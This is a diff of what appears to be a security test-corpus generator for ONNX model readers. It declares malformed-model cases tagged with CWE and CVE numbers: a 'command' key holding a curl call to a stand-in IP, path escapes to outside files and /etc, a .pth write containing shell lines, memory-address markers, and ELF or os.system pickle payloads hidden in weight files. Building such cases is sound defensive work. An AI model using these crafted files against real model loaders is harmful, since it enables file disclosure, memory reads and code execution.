-keys("unknown", "A key 'command' that no specification has.", ("command", "curl http://192.0.2.1/"), cve=None)
-keys("upper-case", "The key is Offset: readers that ignore case use it.", ("Offset", "8"), cve=None)
-attack("no-location", "There is no location.", weighted(external_pairs("w", [("offset", 0), ("length", 16)])))
-attack("no-entries", "data_location is EXTERNAL and external_data is empty.", weighted(tensor("w", [4],
+key_attack("class", "A key is __class__.", ("__class__", "builtins.dict"))
+key_attack("dict", "A key is __dict__.", ("__dict__", "{}"))
+key_attack("basepath", "A key is basepath: onnx joins it with the location.", ("basepath", "/etc"))
+key_attack("init", "A key is __init__.", ("__init__", "x"))
+key_attack("huge-attribute", "A key sets length to 10^18, which is read at once.", ("length", "1" + "0" * 18))
+key_attack("unknown", "A key 'command' that no specification has.", ("command", "curl http://192.0.2.1/"), cve=None)
+key_attack("upper-case", "The key is Offset: readers that ignore case use it.", ("Offset", "8"), cve=None)
+attack("no-location", "There is no location.", model_with_weight(external_pairs("w", [("offset", 0), ("length", 16)])))
+attack("no-entries", "data_location is EXTERNAL and external_data is empty.", model_with_weight(tensor("w", [4],
     extra=integer(14, EXTERNAL))))
 
 attack = declare("write-target", "files",
@@ -350,21 +368,21 @@ for case_name, target in (
     ("pth", "evil.pth"),
 ):
     attack(case_name, f"The location is {target}; the tensor's bytes are in raw_data as well.",
-        weighted(external_pairs("w", [("location", target)], extra=record(9, b"#!x\nid;\nid;\nid;\n"))),
+        model_with_weight(external_pairs("w", [("location", target)], extra=record(9, b"#!x\nid;\nid;\nid;\n"))),
         cve="CVE-2025-51480")
 
 attack = declare("memory-address", "files",
     "The location is a marker by which a runtime takes the offset as an address in its own memory.", "CWE-822",
     "onnxruntime, OpenVINO, onnx-mlir")
 SOURCE = "https://github.com/microsoft/onnxruntime/pull/12465"
-attack("onnxruntime", "*/_ORT_MEM_ADDR_/* with the offset 0x10000.", located("*/_ORT_MEM_ADDR_/*", offset=0x10000,
-    length=16), source=SOURCE)
-attack("null", "*/_ORT_MEM_ADDR_/* with the offset 0.", located("*/_ORT_MEM_ADDR_/*", offset=0, length=16),
+attack("onnxruntime", "*/_ORT_MEM_ADDR_/* with the offset 0x10000.", model_with_location("*/_ORT_MEM_ADDR_/*",
+    offset=0x10000, length=16), source=SOURCE)
+attack("null", "*/_ORT_MEM_ADDR_/* with the offset 0.", model_with_location("*/_ORT_MEM_ADDR_/*", offset=0, length=16),
     source=SOURCE)
 attack("little-endian", "*/_ORT_LITTLE_ENDIAN_MEM_ADDR_/* with an address.",
-    located("*/_ORT_LITTLE_ENDIAN_MEM_ADDR_/*", offset=0x400000, length=16))
+    model_with_location("*/_ORT_LITTLE_ENDIAN_MEM_ADDR_/*", offset=0x400000, length=16))
 attack("native-endian", "*/_ORT_NATIVE_ENDIAN_MEM_ADDR_/* with an address.",
-    located("*/_ORT_NATIVE_ENDIAN_MEM_ADDR_/*", offset=0x400000, length=16))
+    model_with_location("*/_ORT_NATIVE_ENDIAN_MEM_ADDR_/*", offset=0x400000, length=16))
 attack("in-branch", "The marker is in a branch of an If.", network([node("If", ["t"], ["y"],
     then_branch=graph([node("Identity", ["m"], ["a"])], [], [value("a")], [external("m",
     location="*/_ORT_MEM_ADDR_/*", offset=0x10000, length=16)]), else_branch=graph([node("Identity", ["x"], ["b"])],
@@ -375,48 +393,48 @@ attack("in-constant", "The marker is in the tensor of a Constant.", network([nod
 
 attack = declare("path-hidden", "files", "External data outside of the folder is where checks do not look.", "CWE-22",
     READERS)
-ESCAPE = external(None, location=OUTSIDE)
-NAMED = external("e", location=OUTSIDE)
-attack("constant", "In the tensor of a Constant.", network([node("Constant", [], ["c"], value=ESCAPE), node("Add", ["x",
-    "c"], ["y"])]))
+OUTSIDE_TENSOR = external(None, location=OUTSIDE)
+SECRET = external("e", location=OUTSIDE)
+attack("constant", "In the tensor of a Constant.", network([node("Constant", [], ["c"], value=OUTSIDE_TENSOR), node(
+    "Add", ["x", "c"], ["y"])]))
 attack("tensors-attribute", "In the tensors of an attribute.", network([node("Custom", ["x"], ["y"], domain="custom",
-    extra=record(5, record(1, "t") + record(10, ESCAPE) + integer(20, 9)))], opsets=(("", 21), ("custom", 1))))
+    extra=record(5, record(1, "t") + record(10, OUTSIDE_TENSOR) + integer(20, 9)))], opsets=(("", 21), ("custom", 1))))
 attack("branch", "In the initializer of a branch.", network([node("If", ["t"], ["y"],
-    then_branch=graph([node("Identity", ["e"], ["a"])], [], [value("a")], [NAMED]),
+    then_branch=graph([node("Identity", ["e"], ["a"])], [], [value("a")], [SECRET]),
     else_branch=graph([node("Identity", ["x"], ["b"])], [], [value("b")]))], [scalar("t", True, BOOL)]))
 attack("function", "In a Constant of a function.", network([node("F", ["x"], ["y"], domain="local")], opsets=(("",
-    21), ("local", 1)), functions=[function("F", [node("Constant", [], ["c"], value=ESCAPE), node("Add", ["a", "c"],
-    ["b"])], ["a"], ["b"])]))
-attack("sparse-values", "In the values of a sparse initializer.", carrier(sparse=[record(1, external("sp", [1],
-    location=OUTSIDE)) + record(2, values(None, [0], INT64)) + integer(3, 8)], nodes=[node("Neg", ["sp"], ["z"])]))
-attack("sparse-indices", "In the indices of a sparse initializer.", carrier(sparse=[record(1, values("sp",
+    21), ("local", 1)), functions=[function("F", [node("Constant", [], ["c"], value=OUTSIDE_TENSOR), node("Add", ["a",
+    "c"], ["b"])], ["a"], ["b"])]))
+attack("sparse-values", "In the values of a sparse initializer.", model_with_extras(sparse=[record(1, external("sp", [
+    1], location=OUTSIDE)) + record(2, values(None, [0], INT64)) + integer(3, 8)], nodes=[node("Neg", ["sp"], ["z"])]))
+attack("sparse-indices", "In the indices of a sparse initializer.", model_with_extras(sparse=[record(1, values("sp",
     [1.0])) + record(2, external_pairs(None, [("location", OUTSIDE)], [1], INT64)) + integer(3, 8)],
     nodes=[node("Neg", ["sp"], ["z"])]))
-attack("training", "In the initializer of a training algorithm.", carrier(extra=record(20, record(2, graph([], [], [],
-    [NAMED])))))
-attack("training-initialization", "In the initialization graph of training_info.", carrier(extra=record(20, record(1,
-    graph([node("Constant", [], ["c"], value=ESCAPE)], [], [value("c")])))))
-attack("unused", "In an initializer that no node uses.", carrier([NAMED]))
-attack("reference-default", "In the default value of a function's attribute.", carrier(functions=[function("F",
-    [node("Identity", ["a"], ["b"])], ["a"], ["b"], extra=record(11, attribute("t", Tensor(ESCAPE))))]))
-attack("after-many", "In the last of 2,000 initializers.", carrier([values(f"i{n}",
-    [1.0]) for n in range(2000)] + [NAMED]))
+attack("training", "In the initializer of a training algorithm.", model_with_extras(extra=record(20, record(2, graph([],
+    [], [], [SECRET])))))
+attack("training-initialization", "In the initialization graph of training_info.", model_with_extras(extra=record(20,
+    record(1, graph([node("Constant", [], ["c"], value=OUTSIDE_TENSOR)], [], [value("c")])))))
+attack("unused", "In an initializer that no node uses.", model_with_extras([SECRET]))
+attack("reference-default", "In the default value of a function's attribute.", model_with_extras(functions=[function(
+    "F", [node("Identity", ["a"], ["b"])], ["a"], ["b"], extra=record(11, attribute("t", Tensor(OUTSIDE_TENSOR))))]))
+attack("after-many", "In the last of 2,000 initializers.", model_with_extras([values(f"i{n}",
+    [1.0]) for n in range(2000)] + [SECRET]))
 
 attack = declare("external-payload", "files",
     "The accompanying file holds an executable or a pickle, in use as weights or beside them.", "CWE-506",
     "scanners, users of the folder")
-attack("elf-as-weights", "The weights are an ELF program.", located("weights.elf.bin", length=16),
+attack("elf-as-weights", "The weights are an ELF program.", model_with_location("weights.elf.bin", length=16),
     files={"weights.elf.bin": ELF})
-attack("pickle-as-weights", "The file of the weights is a pickle that calls os.system.", located("pytorch_model.bin",
-    length=16), files={"pytorch_model.bin": PICKLE})
-attack("gap", "An ELF program is in the gap between two tensors.", carrier([external("a", location="gap.bin",
+attack("pickle-as-weights", "The file of the weights is a pickle that calls os.system.", model_with_location(
+    "pytorch_model.bin", length=16), files={"pytorch_model.bin": PICKLE})
+attack("gap", "An ELF program is in the gap between two tensors.", model_with_extras([external("a", location="gap.bin",
     offset=0, length=16), external("b", location="gap.bin", offset=4096, length=16)]),
-    files={"gap.bin": RAW + bytes(1008) + ELF + bytes(3072 - len(ELF)) + RAW})
-attack("tail", "An ELF program follows the last tensor.", located("tail.bin", offset=0, length=16),
-    files={"tail.bin": RAW + bytes(4080) + ELF})
-attack("head", "An ELF program is before the first tensor.", located("head.bin", offset=4096, length=16),
-    files={"head.bin": ELF + bytes(4096 - len(ELF)) + RAW})
+    files={"gap.bin": WEIGHTS + bytes(1008) + ELF + bytes(3072 - len(ELF)) + WEIGHTS})
+attack("tail", "An ELF program follows the last tensor.", model_with_location("tail.bin", offset=0, length=16),
+    files={"tail.bin": WEIGHTS + bytes(4080) + ELF})
+attack("head", "An ELF program is before the first tensor.", model_with_location("head.bin", offset=4096, length=16),
+    files={"head.bin": ELF + bytes(4096 - len(ELF)) + WEIGHTS})
 attack("sparse-gap", "A file of 4 GiB without disk space has a payload in its middle; tensors use its ends.",
-    carrier([external("a", location="wide.bin", offset=0, length=16), external("b", location="wide.bin",
-    offset=(1 << 32) - 16, length=16)]), files={"wide.bin": Sparse(1 << 32, ((0, RAW), (1 << 31, ELF),
-    ((1 << 32) - 16, RAW)))})
+    model_with_extras([external("a", location="wide.bin", offset=0, length=16), external("b", location="wide.bin",
+    offset=(1 << 32) - 16, length=16)]), files={"wide.bin": Sparse(1 << 32, ((0, WEIGHTS), (1 << 31, ELF),
+    ((1 << 32) - 16, WEIGHTS)))})
